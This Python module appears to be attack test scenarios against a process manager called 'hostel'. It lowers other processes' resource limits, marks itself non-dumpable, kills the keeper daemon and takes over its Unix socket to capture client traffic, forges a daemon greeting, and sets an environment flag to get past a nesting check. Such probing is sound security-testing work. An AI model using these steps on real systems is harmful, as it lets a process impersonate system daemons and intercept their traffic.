"""Attacks on the mark itself: the limit of file locks of other processes is lowered, so that the attacker looks like them."""

import ctypes, fcntl, os, re, resource, select, shutil, signal, socket, struct, subprocess

from doors import attempt, connect, reached
from house import pose, take_place

LOCKS = 10
DUMPABLE = 4


def lower(facts):
    """Lowers the limit of processes to the attacker's own, or to nothing at all."""
    own = resource.getrlimit(LOCKS)[1]
    limit = own if facts.get("to_own") else 0

    def one(pid):
        resource.prlimit(pid, LOCKS, (limit, limit))
        return resource.prlimit(pid, LOCKS)
    return {"own": own, "limits": [attempt(one, pid) for pid in facts["targets"]]}


def processor_time(facts):
    """Has a process ended by its use of the processor, and changes a limit of its own as shells do."""
    tried = attempt(resource.prlimit, facts["target"], resource.RLIMIT_CPU, (3600, 3600))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    resource.prlimit(0, resource.RLIMIT_CPU, (7200, 7200))
    return {"tried": str(tried), "own": resource.getrlimit(resource.RLIMIT_CPU)[1]}


def hide():
    """Keeps others from seeing which program this is."""
    ctypes.CDLL(None).prctl(DUMPABLE, 0)


def greet(facts):
    """Greets the keeper as its daemon: what it answers."""
    def field(tag, form, value):
        return struct.pack("<HI", tag, struct.calcsize(form)) + struct.pack(form, value)
    fields = field(33, "<I", 1) + field(34, "<I", 1) + field(36, "<I", 1) + field(56, "<Q", (1 << 64) - 1)
    frame = struct.pack("<HHQ", 1, 0, 1) + fields
    stream = connect(f"{facts['house']}/run/keeper.sock")
    stream.sendall(struct.pack("<I", len(frame)) + frame)
    return stream.recv(65536).hex()


def take_the_daemons_place(facts):
    """Speaks to a keeper that was lowered, by hand and with hostel's own program."""
    greeted = attempt(greet, facts)
    # What hostel itself refuses by this is no wall: the library could do without it.
    os.environ["HOSTEL_NESTED"] = "1"
    return {"greeted": greeted, **take_place(facts)}


def false_keeper(facts):
    """Ends the keeper of a daemon that was lowered, and answers in its place."""
    lowered = lower({**facts, "targets": [facts["daemon"]], "to_own": True})
    hide()
    killed = attempt(end, facts["keeper"])
    if killed is not None:
        return {"lowered": lowered, "killed": killed, "heard": ""}
    run, heard, met = f"{facts['house']}/run", b"", 0
    lock = open(f"{run}/keeper.lock", "r+")
    fcntl.flock(lock, fcntl.LOCK_EX)
    attempt(os.remove, f"{run}/keeper.sock")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(f"{run}/keeper.sock")
    listener.listen()
    listener.settimeout(0.05)
    reached(facts, "answering")
    while not os.path.exists(f"{facts['signals']}/enough"):
        stream = attempt(lambda: listener.accept()[0])
        if isinstance(stream, dict):
            continue
        stream.settimeout(1)
        while (piece := attempt(stream.recv, 65536)) and isinstance(piece, bytes):
            heard += piece
        met += 1
        if met == 3:
            reached(facts, "met")
    return {"lowered": lowered, "killed": killed, "heard": heard.hex()}


def pose_hidden(facts):
    """Poses as the daemon for somebody whose limit was lowered."""
    lowered = lower({**facts, "to_own": True})
    hide()
    return {"lowered": lowered, **pose(facts)}


def end(pid):
    """Kills a process that may be gone in between, and waits for its end."""
    handle = os.pidfd_open(pid)
    signal.pidfd_send_signal(handle, signal.SIGKILL)
    select.select([handle], [], [], 20)
    os.close(handle)


def house_inside(facts):
    """Runs a house of its own inside, as an agent that works on hostel does."""
    inner, said = facts["inner"], {}
    os.mkdir(inner, 0o700)
    shutil.copy(f"{facts['house']}/hostel.toml", inner)
    plain = {**os.environ, "HOSTEL_HOME": inner}
    plain.pop("HOSTEL_PROCESS")

    def run(environment, *words, **more):
        done = subprocess.run([facts["hostel"], *words], capture_output=True, text=True, timeout=60, env=environment,
                              stdin=subprocess.DEVNULL)
        return {"code": done.returncode, "out": done.stdout, "said": done.stderr}
    ways = {"unsaid": plain, "said": {**plain, "HOSTEL_NESTED": "1"}, "hosted": {**os.environ, "HOSTEL_HOME": inner}}
    for way, environment in ways.items():
        said[way] = run(environment, "up")
        # Processes are its own, and it asks the daemon about them.
        said[f"{way}: list"] = run(environment, "ps")
        said[f"{way}: down"] = run(environment, "down")
        for pid in re.findall(r"(?:daemon|keeper) (\d+)", said[way]["out"]):
            end(int(pid))
    return said
